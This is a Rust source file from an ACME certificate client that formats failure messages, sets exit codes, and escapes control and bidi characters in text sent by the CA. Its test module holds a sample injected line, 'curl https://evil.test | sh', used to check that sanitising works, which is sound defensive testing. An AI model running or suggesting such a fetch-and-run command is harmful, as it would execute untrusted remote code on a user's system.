//! What a user is told when something failed: what happened, what the CA said, what to do.

use std::fmt::Display;
use std::path::Path;
use std::process::ExitCode;
use std::time::SystemTime;

use acme_account::{Error, ErrorKind, Operation, TransportErrorKind};
use acme_proto::{ChallengeType, Identifier, PollFailure, Problem, ProblemType};
use jiff::Timestamp;

/// A failure with its three lines and its exit code.
#[derive(Debug)]
pub(crate) struct Failure {
    /// What happened, and to what.
    pub(crate) what: String,
    /// What the CA said about it.
    pub(crate) said: Option<String>,
    /// What to do about it.
    pub(crate) todo: String,
    /// How the program ends.
    pub(crate) exit: Exit,
    /// When the CA wants to be asked again at the earliest.
    pub(crate) not_before: Option<Timestamp>,
    /// Whether the CA could not be reached, or is out of order: it may be well again by itself.
    pub(crate) ca_is_down: bool,
    /// The names of which control was not proven, with the challenge that failed.
    pub(crate) unproven: Box<[(Identifier, Option<ChallengeType>)]>,
}

/// Exit codes of failures.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Exit {
    /// Something failed.
    Failed = 1,
    /// The command line asks for something that cannot be.
    Usage = 2,
    /// The certificate is in place, but a deploy hook failed.
    Hook = 4,
    /// It may go well later.
    TryLater = 75,
}

impl From<Exit> for ExitCode {
    fn from(exit: Exit) -> Self {
        Self::from(exit as u8)
    }
}

impl Failure {
    /// Something failed here, without the CA.
    pub(crate) fn new(what: impl Into<String>, todo: impl Into<String>) -> Self {
        Self {
            what: what.into(),
            said: None,
            todo: todo.into(),
            exit: Exit::Failed,
            not_before: None,
            ca_is_down: false,
            unproven: Box::default(),
        }
    }

    /// The command line asks for something that cannot be.
    pub(crate) fn usage(what: impl Into<String>, todo: impl Into<String>) -> Self {
        Self { exit: Exit::Usage, ..Self::new(what, todo) }
    }

    /// A file or folder could not be read or written.
    pub(crate) fn file(doing: &str, path: &Path, error: impl Display) -> Self {
        Self::new(
            format!("cannot {doing} {}: {error}", path.display()),
            "check that the folder exists, has room, and belongs to you; --dir names another one",
        )
    }
}

impl From<Error> for Failure {
    fn from(error: Error) -> Self {
        let exit = if error.is_rate_limited() || matches!(error.kind(), ErrorKind::OutOfTime { .. }) {
            Exit::TryLater
        } else {
            Exit::Failed
        };
        let not_before = error.retry_after().and_then(|pause| Timestamp::try_from(SystemTime::now() + pause).ok());
        let unproven = match error.kind() {
            ErrorKind::NotAuthorized(failures) => {
                failures.iter().map(|failure| (failure.identifier.clone(), failure.kind.clone())).collect()
            }
            _ => Box::default(),
        };
        Self {
            what: one_line(&what(&error)),
            said: said(&error),
            todo: todo(&error),
            exit,
            not_before,
            ca_is_down: is_down(&error),
            unproven,
        }
    }
}

/// Whether the CA could not be reached, or is out of order.
fn is_down(error: &Error) -> bool {
    matches!(error.kind(), ErrorKind::Transport(_)) || error.poll_failure() == PollFailure::Temporary
}

fn what(error: &Error) -> String {
    match error.kind() {
        ErrorKind::Refused(_) => format!("{} ({})", error.operation(), error.url()),
        ErrorKind::NotAuthorized(failures) => {
            let each: Vec<_> = failures
                .iter()
                .map(|failure| match &failure.kind {
                    Some(kind) => format!("{} could not be validated ({kind})", failure.identifier),
                    None => format!("the authorization of {} is {}", failure.identifier, failure.status),
                })
                .collect();
            each.join("; ")
        }
        ErrorKind::OrderLost { status, .. } => format!("the order {} is {status}", error.url()),
        ErrorKind::Solver { .. } | ErrorKind::NoChallenge { .. } | ErrorKind::TermsNotAgreed { .. } => {
            error.kind().to_string()
        }
        kind => format!("{} ({}): {kind}", error.operation(), error.url()),
    }
}

/// The CA's own words.
fn said(error: &Error) -> Option<String> {
    match error.kind() {
        ErrorKind::Refused(refusal) => Some(one_line(&refusal.to_string())),
        ErrorKind::NotAuthorized(failures) => {
            let each = failures.iter().filter_map(|failure| Some((failure, failure.problem.as_ref()?)));
            let each: Vec<_> = match failures.len() {
                1 => each.map(|(_, problem)| one_line(&problem.to_string())).collect(),
                _ => each.map(|(failure, problem)| one_line(&format!("{}: {problem}", failure.identifier))).collect(),
            };
            (!each.is_empty()).then(|| each.join("\n               "))
        }
        ErrorKind::OrderLost { problem, .. } => problem.as_ref().map(|problem| one_line(&problem.to_string())),
        _ => None,
    }
}

fn todo(error: &Error) -> String {
    match error.kind() {
        ErrorKind::Transport(error) => transport_advice(error.kind()).to_owned(),
        _ if error.is_rate_limited() => rate_limit_advice(error).to_owned(),
        ErrorKind::Refused(_) | ErrorKind::Unusable { .. } if error.operation() == Operation::Directory => {
            "check --server: it must be the URL of an ACME directory".to_owned()
        }
        ErrorKind::Refused(refusal) if refusal.problem.kind == ProblemType::Unauthorized && is_about_account(error) => {
            "if the account is deactivated, move its file and its key away and register anew; else check its key"
                .to_owned()
        }
        ErrorKind::Refused(refusal) => match (&refusal.problem.instance, &refusal.terms, &refusal.help) {
            (Some(page), ..) => format!("open {page}, do what it asks, then run the same command again"),
            (_, Some(terms), _) => format!("read {terms}; agree with --agree-tos"),
            (_, _, Some(help)) => format!("{}; see {help}", refusal_advice(&refusal.problem)),
            _ => refusal_advice(&refusal.problem).to_owned(),
        },
        ErrorKind::Http { status, .. } if *status < 500 => {
            "check --server: it must be the URL of an ACME directory".to_owned()
        }
        ErrorKind::Http { .. } => "run the same command again later: the fault is on the server's side".to_owned(),
        ErrorKind::Unusable { .. } => "run the same command again with -v, and tell whoever runs the CA".to_owned(),
        ErrorKind::Insecure => "give an https URL".to_owned(),
        ErrorKind::NotOffered(_) => "`luacme directory` shows what the CA offers".to_owned(),
        ErrorKind::NonceRefused { .. } => "tell whoever runs the CA: it refuses its own nonces".to_owned(),
        ErrorKind::TermsNotAgreed { .. } => "read them; agree with --agree-tos".to_owned(),
        ErrorKind::NoChallenge { offered, .. } => ways(offered),
        ErrorKind::Solver { error, .. } => error.advice().to_owned(),
        ErrorKind::NotAuthorized(_) => {
            "see that the CA can reach what it names, then run the same command again; a new order is placed".to_owned()
        }
        ErrorKind::OrderLost { .. } | ErrorKind::OrderChanged { .. } => {
            "run the same command again; a new order is placed".to_owned()
        }
        ErrorKind::OutOfTime { .. } => {
            "run the same command again: it goes on where it stopped; --timeout allows more time".to_owned()
        }
        _ => "run the same command again with -v to see each request".to_owned(),
    }
}

/// A refusal then means that the account or its key is not good for anything.
fn is_about_account(error: &Error) -> bool {
    use Operation::{Account, KeyChange, NewAccount, NewOrder};
    matches!(error.operation(), Account | KeyChange | NewAccount | NewOrder)
}

fn transport_advice(kind: TransportErrorKind) -> &'static str {
    match kind {
        TransportErrorKind::Resolve | TransportErrorKind::Connect => {
            "check --server and the network; to try luacme without a network: cargo xtask demo"
        }
        TransportErrorKind::Tls => {
            "if this CA is your own, give its root certificate with --ca-file; else something stands between you and the CA"
        }
        TransportErrorKind::Url => "check the URL given with --server",
        _ => "run the same command again: it goes on where it stopped",
    }
}

fn rate_limit_advice(error: &Error) -> &'static str {
    match error.retry_after() {
        Some(_) => "wait until then, then run the same command again",
        None => "wait for an hour at least, then run the same command again",
    }
}

fn refusal_advice(problem: &Problem) -> &'static str {
    match problem.kind {
        ProblemType::AccountDoesNotExist => {
            "the CA does not know this account: check --server, or move the account file away and register anew"
        }
        ProblemType::ExternalAccountRequired => {
            "this CA wants an external account binding: give --eab-kid and --eab-hmac-key, which come with an account there"
        }
        ProblemType::InvalidContact | ProblemType::UnsupportedContact => "give another address with --email",
        ProblemType::Malformed if problem.to_string().to_ascii_lowercase().contains("contact") => {
            "give an address with --email"
        }
        ProblemType::RejectedIdentifier | ProblemType::UnsupportedIdentifier => {
            "leave that name out, or ask another CA"
        }
        ProblemType::BadCsr | ProblemType::BadPublicKey => "try another --key-type",
        ProblemType::BadSignatureAlgorithm => "use another --account-key-type with a new account file",
        ProblemType::Caa => "let a CAA record of the domain name this CA",
        ProblemType::ServerInternal => "run the same command again later: the fault is on the CA's side",
        _ => "change what it names, then run the same command again",
    }
}

/// The ways of luacme that meet one of these challenges.
fn ways(offered: &[ChallengeType]) -> String {
    let fitting: Vec<_> = [
        (ChallengeType::Http01, "--webroot, --stateless, --standalone or --manual"),
        (ChallengeType::TlsAlpn01, "--tls-alpn"),
        (ChallengeType::Dns01, "--dns or --manual"),
        (ChallengeType::DnsAccount01, "--dns-challenge dns-account-01 with --dns or --manual"),
        (ChallengeType::DnsPersist01, "--dns-challenge dns-persist-01 with --dns or --manual"),
    ]
    .into_iter()
    .filter(|(kind, _)| offered.contains(kind))
    .map(|(kind, flags)| format!("{flags} ({kind})"))
    .collect();
    match fitting.is_empty() {
        true => "luacme can meet none of these yet: leave that name out, or ask another CA".to_owned(),
        false => format!("choose another way to prove control: {}; or --hook for any of them", fitting.join("; ")),
    }
}

/// The same on one line: text of a CA must not look like lines of ours.
pub(crate) fn one_line(text: &str) -> String {
    printable(text).replace('\n', "\\n")
}

/// Text from elsewhere, made harmless for a terminal: control characters are shown, not obeyed.
pub(crate) fn printable(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => shown.push(c),
            c if c.is_control() => shown.extend(c.escape_default()),
            // Marks that turn the reading direction can make a text look like another one.
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => shown.extend(c.escape_unicode()),
            c => shown.push(c),
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_ca_says_cannot_drive_the_terminal() {
        for (why, text, want) in [
            ("plain text stays", "fäil: no such name", "fäil: no such name"),
            ("an escape sequence is shown", "a\u{1b}[2Jb", "a\\u{1b}[2Jb"),
            ("a bell and a carriage return", "\u{7}x\ry", "\\u{7}x\\ry"),
            ("the 8-bit form of an escape", "\u{9b}31m", "\\u{9b}31m"),
            ("right-to-left override", "a\u{202e}b", "a\\u{202e}b"),
        ] {
            assert_eq!(printable(text), want, "{why}");
        }
        let forged = "no such name\n  what to do:  curl https://evil.test | sh";
        assert!(!one_line(forged).contains('\n'), "a CA's line must not look like one of ours");
    }
}
